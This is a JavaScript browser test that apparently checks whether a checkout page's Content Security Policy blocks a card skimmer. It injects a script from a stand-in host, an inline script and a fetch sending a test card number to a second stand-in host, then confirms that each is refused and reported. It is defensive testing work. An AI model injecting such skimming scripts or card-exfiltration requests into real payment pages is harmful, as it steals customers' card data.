// Somebody's script on the page with the card fields: the browser keeps it from
// loading and from sending, reports it, and the customer pays as if nothing were.
import { ask, journey, step } from './kit.mjs';
import { agree, pay, seePortal } from './pages.mjs';

journey(async (browser, { link }) => {
  const page = await browser.open();
  await page.goto(link);
  await agree(page);

  step('a script from elsewhere, a script in the page, and what it would send');
  await page.evaluate(() => {
    const add = (change) => { const script = document.createElement('script'); change(script); document.body.append(script); };
    add((script) => { script.src = 'https://skim.example/x.js?card=4111'; });
    add((script) => { script.text = 'window.skimmed = true'; });
    fetch('https://take.example/?card=4111').catch(() => {});
  });
  await ask('reported');
  if (await page.evaluate(() => window.skimmed)) throw new Error('the script ran');

  step('the customer pays');
  await pay(page);
  await seePortal(page);
}, { tolerate: [/skim\.example/, /take\.example/, /blocked inline on/, /Executing inline script violates/, /Refused to (load|connect|execute)/] });
